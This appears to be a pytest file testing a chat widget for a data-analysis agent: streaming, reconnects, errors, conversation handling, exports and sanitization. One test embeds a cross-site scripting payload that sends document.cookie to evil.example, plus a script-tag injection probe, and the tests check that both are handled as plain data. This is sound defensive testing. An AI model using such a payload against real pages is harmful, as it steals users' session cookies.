"""The chat widget's kernel side from a scripted event stream: what it sends, what it keeps,
what it does with what a view sends (pure Python, no front end)."""

from __future__ import annotations

import time
import uuid
from typing import Any

import pytest

from revtops_kernel.agent.events import Error, TablePreview, TextDelta, ToolCallStarted, ToolResult
from revtops_kernel.errors import SettingsError
from revtops_kernel.safe_html import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, URL_SCHEMES
from revtops_kernel.ui.chat_panel import UNEXPECTED_ERROR, ChatPanel, ChatWidget, plotly_js
from revtops_kernel.ui.protocol import DELTA_RATE
from tests.ui.fakes import PIPELINE_FIGURE, PIPELINE_SQL, FakeBackend, pipeline_answer
from tests.ui.wire import Wire


def panel_with(backend: FakeBackend, **options: Any) -> tuple[ChatWidget, Wire]:
    panel = ChatPanel(backend, suggestions=["What is our pipeline by stage?"], **options)
    return panel, Wire(panel)


def ask(panel: ChatWidget, question: str) -> Any:
    panel.ask(question)
    answer = panel.wait(10)
    assert not panel.running
    return answer


def test_an_answer_crosses_the_wire_as_small_messages() -> None:
    backend = FakeBackend(scripts=[pipeline_answer()])
    panel, wire = panel_with(backend, timezone="Europe/Paris")
    answer = ask(panel, "What is our pipeline by stage?")

    (turn,) = wire.of("turn")
    assert turn["q"] == "What is our pipeline by stage?" and turn["at"].endswith("Z")
    assert "".join(wire.deltas()) == (
        "Let me look.Pipeline is **$200k**.\n\nMost of it is in Proposal."
    )
    items = [m["item"] for m in wire.of("item")]
    assert [i["k"] for i in items] == ["tool", "tool", "artifact"]
    assert items[0]["sql"] == "DELETE FROM deals"
    refused, verified = wire.of("tool_end")
    assert not refused["ok"] and refused["summary"] == "refused: only SELECT is allowed"
    assert verified["ok"] and verified["verified"] and verified["sql"] == PIPELINE_SQL
    assert verified["table"]["rows"] == [["Proposal", 120000.5], ["Won", 80000]]
    assert items[2]["figs"] == [PIPELINE_FIGURE] and items[2]["verified"]
    (done,) = wire.of("done")
    assert done == {
        "t": "done", "stop": "end_turn", "verified": True, "current": str(answer.conversation_id),
    }  # fmt: skip
    assert wire.of("list")[-1]["current"] == str(answer.conversation_id)

    assert answer.text == "Let me look.\n\nPipeline is **$200k**.\n\nMost of it is in Proposal."
    assert [q.sql for q in answer.queries] == ["DELETE FROM deals", PIPELINE_SQL]
    assert answer.verified and answer.stop_reason == "end_turn"
    assert backend.asked[0]["timezone"] == "Europe/Paris"
    assert panel.conversation_id == answer.conversation_id


def test_only_new_text_is_sent_and_updates_are_coalesced() -> None:
    words = [f"word{i}" for i in range(600)]
    backend = FakeBackend(scripts=[[TextDelta(w + " ") for w in words]], delay=0.002)
    panel, wire = panel_with(backend)
    started = time.monotonic()
    answer = ask(panel, "long")
    elapsed = time.monotonic() - started
    deltas = wire.deltas()
    assert "".join(deltas).split() == words  # each character crosses once
    assert sum(len(d) for d in deltas) == len(answer.text)
    assert len(deltas) <= elapsed * DELTA_RATE + 2
    assert answer.text_updates == len(deltas)


def test_a_reconnecting_view_gets_the_whole_state_in_one_message() -> None:
    backend = FakeBackend(scripts=[pipeline_answer(), [TextDelta("second answer")]])
    panel, wire = panel_with(backend)
    wire.browser(t="hello", tz="Asia/Tokyo")
    ask(panel, "first")
    ask(panel, "second")
    live = wire.replay()  # what a view that watched the stream holds

    wire.clear()
    wire.browser(t="hello", tz="Asia/Tokyo")  # the page is reloaded
    (snapshot,) = wire.messages
    assert isinstance(snapshot, dict) and snapshot["t"] == "state"
    assert snapshot["turns"] == live.turns
    assert snapshot["conversations"] == live.conversations
    assert snapshot["current"] == live.current == str(panel.conversation_id)
    assert [t["q"] for t in snapshot["turns"]] == ["first", "second"]
    assert snapshot["turns"][1]["items"] == [{"k": "text", "md": "second answer"}]
    assert snapshot["suggestions"] == ["What is our pipeline by stage?"]
    assert not snapshot["running"]


def test_backend_failure_becomes_a_readable_error_item() -> None:
    panel, wire = panel_with(
        FakeBackend(fail_with=SettingsError("ANTHROPIC_API_KEY", "is not set"))
    )
    assert ask(panel, "q").error == "ANTHROPIC_API_KEY: is not set"
    assert wire.of("item")[-1]["item"]["msg"] == "ANTHROPIC_API_KEY: is not set"
    panel, wire = panel_with(FakeBackend(fail_with=ZeroDivisionError("boom")))
    assert ask(panel, "q").error == UNEXPECTED_ERROR
    assert wire.of("item")[-1]["item"] == {"k": "error", "msg": UNEXPECTED_ERROR, "kind": "error"}
    assert wire.of("done")[-1]["stop"] is None


def test_error_event_is_an_item() -> None:
    message = "No Anthropic API key: set ANTHROPIC_API_KEY in the environment or in .env."
    panel, wire = panel_with(FakeBackend(scripts=[[Error(message, kind="configuration")]]))
    assert ask(panel, "q").error == message
    assert {"k": "error", "msg": message, "kind": "configuration"} in [
        m["item"] for m in wire.of("item")
    ]


def test_stop_from_the_view_cancels_the_answer() -> None:
    backend = FakeBackend(scripts=[[TextDelta("x") for _ in range(400)]], delay=0.01)
    panel, wire = panel_with(backend)
    wire.browser(t="ask", q="long")
    assert panel.running
    wire.browser(t="stop")
    answer = panel.wait(10)
    assert answer.stop_reason == "cancelled" and len(answer.text) < 400
    assert wire.of("done")[-1]["stop"] == "cancelled"
    wire.browser(t="hello")
    assert wire.last_state()["turns"][0]["stop"] == "cancelled"  # the view marks it stopped


def test_ask_from_the_view_strips_and_ignores_empty_questions() -> None:
    backend = FakeBackend(scripts=[[TextDelta("hi")]])
    panel, wire = panel_with(backend)
    wire.browser(t="ask", q="   ")
    assert panel.wait(1) is None and not backend.asked
    wire.browser(t="ask", q="  pipeline?  ")
    panel.wait(10)
    assert backend.asked[0]["question"] == "pipeline?"


def test_browser_timezone_comes_by_message_and_only_when_valid() -> None:
    backend = FakeBackend(scripts=[[], []])
    panel, wire = panel_with(backend, timezone="America/New_York")
    assert panel.timezone == "America/New_York"
    wire.browser(t="hello", tz="Not/AZone<script>")
    ask(panel, "a")
    wire.browser(t="hello", tz="Asia/Tokyo")
    ask(panel, "b")
    assert [a["timezone"] for a in backend.asked] == ["America/New_York", "Asia/Tokyo"]


def test_conversations_switch_continue_rename_delete() -> None:
    backend = FakeBackend(scripts=[pipeline_answer(), [TextDelta("second")], [TextDelta("other")]])
    panel, wire = panel_with(backend)
    first = ask(panel, "first question").conversation_id
    ask(panel, "follow up")
    assert backend.asked[1]["conversation_id"] == first  # continues the thread
    wire.browser(t="new")
    assert wire.last_state()["turns"] == [] and panel.conversation_id is None
    second = ask(panel, "another thread").conversation_id
    assert len(wire.of("list")[-1]["conversations"]) == 2

    wire.clear()
    wire.browser(t="open", id=str(first))  # the user picks the first thread
    assert panel.conversation_id == first
    state = wire.last_state()
    assert state["current"] == str(first)
    assert [t["q"] for t in state["turns"]] == ["first question", "follow up"]
    kinds = [i["k"] for i in state["turns"][0]["items"]]
    assert kinds == ["text", "tool", "tool", "artifact", "text"]  # the chart comes back
    assert state["turns"][1]["items"] == [{"k": "text", "md": "second"}]

    wire.browser(t="rename", id=str(first), title="  Pipeline review ")
    titles = {c["id"]: c["title"] for c in wire.of("list")[-1]["conversations"]}
    assert titles[str(first)] == "Pipeline review"
    wire.browser(t="delete", id=str(first))
    assert [c["id"] for c in wire.of("list")[-1]["conversations"]] == [str(second)]
    assert panel.conversation_id is None and wire.last_state()["turns"] == []


def test_export_is_one_message_the_browser_saves() -> None:
    backend = FakeBackend(scripts=[pipeline_answer()])
    panel, wire = panel_with(backend, timezone="Europe/Paris")
    wire.browser(t="export", kind="pdf")
    assert "before exporting" in wire.of("status")[-1]["msg"]
    answer = ask(panel, "q")
    wire.clear()
    wire.browser(t="export", kind="pdf")
    files = [(c, b) for c, b in wire.sent if isinstance(c, dict) and c.get("t") == "file"]
    assert files == [
        ({"t": "file", "name": "conversation.pdf", "mime": "application/pdf"},
         [b"%PDF-1.7 test double"]),
    ]  # fmt: skip
    assert backend.exports == [("pdf", answer.conversation_id, "Europe/Paris")]

    artifact = answer.artifacts[0].artifact_id
    wire.browser(t="artifact_pdf", id=str(artifact))  # the button under the chart
    assert backend.exports[-1] == ("artifact", artifact, "Europe/Paris")
    assert wire.sent[-1][1] == [b"%PDF-1.7 artifact"]


def test_bad_ids_and_unknown_messages_are_refused_plainly() -> None:
    _panel, wire = panel_with(FakeBackend())
    wire.browser(t="open", id="not-a-uuid")
    assert "not a conversation or artifact id" in wire.of("status")[-1]["msg"]
    wire.browser(t="open", id=str(uuid.uuid4()))  # unknown: the backend's error, as a status
    assert "not found" in wire.of("status")[-1]["msg"]
    wire.clear()
    wire.browser(t="format_disk")
    assert wire.messages == []


def test_plotly_is_served_from_the_package_on_request() -> None:
    _panel, wire = panel_with(FakeBackend())
    assert not any(isinstance(m, dict) and m.get("t") == "plotly" for m in wire.messages)
    wire.browser(t="plotly")
    ((content, buffers),) = wire.sent
    assert content == {"t": "plotly"}
    assert buffers == [plotly_js()] and b"plotly.js" in buffers[0][:2000]


def test_the_view_sanitizes_with_the_server_allowlist() -> None:
    panel = ChatPanel(FakeBackend(), suggestions=[])
    policy = panel.policy
    assert set(policy["tags"]) == ALLOWED_TAGS
    assert {k: set(v) for k, v in policy["attributes"].items()} == ALLOWED_ATTRIBUTES
    assert set(policy["schemes"]) == URL_SCHEMES
    # the page's first state is small: the module, the style, the policy; no conversation
    synced = panel.get_state()
    assert set(synced) >= {"_esm", "_css", "policy"}
    assert "turns" not in synced


@pytest.mark.slow  # imports the router and its verified queries (~5 s CPU)
def test_empty_chat_suggests_verified_questions() -> None:
    panel = ChatPanel(FakeBackend())
    wire = Wire(panel)
    wire.browser(t="hello")
    suggestions = wire.last_state()["suggestions"]
    assert 1 <= len(suggestions) <= 6 and all(isinstance(q, str) and q for q in suggestions)


def test_synced_text_in_result_tables_travels_as_data() -> None:
    slack = '<img src=x onerror="fetch(`https://evil.example/?c=`+document.cookie)">'
    table = TablePreview(columns=["body<script>"], rows=[[slack]], total_rows=1)
    backend = FakeBackend(
        scripts=[
            [
                ToolCallStarted("t", "run_sql_query", {"sql": "SELECT body FROM activities"}),
                ToolResult("t", "run_sql_query", ok=True, summary="1 row <b>", table=table),
            ]
        ]
    )
    panel, wire = panel_with(backend)
    ask(panel, "What did Slack say?")
    (end,) = wire.of("tool_end")
    # values, not markup: the view puts them in text nodes (table.js), never innerHTML
    assert end["table"]["columns"] == ["body<script>"] and end["table"]["rows"] == [[slack]]
    assert end["summary"] == "1 row <b>"


@pytest.mark.parametrize("zone", ["", "Mars/Olympus", 42])
def test_default_timezone_when_the_browser_says_nothing_useful(zone: object) -> None:
    panel, wire = panel_with(FakeBackend(), timezone="Europe/Berlin")
    wire.browser(t="hello", tz=zone)
    assert panel.timezone == "Europe/Berlin"
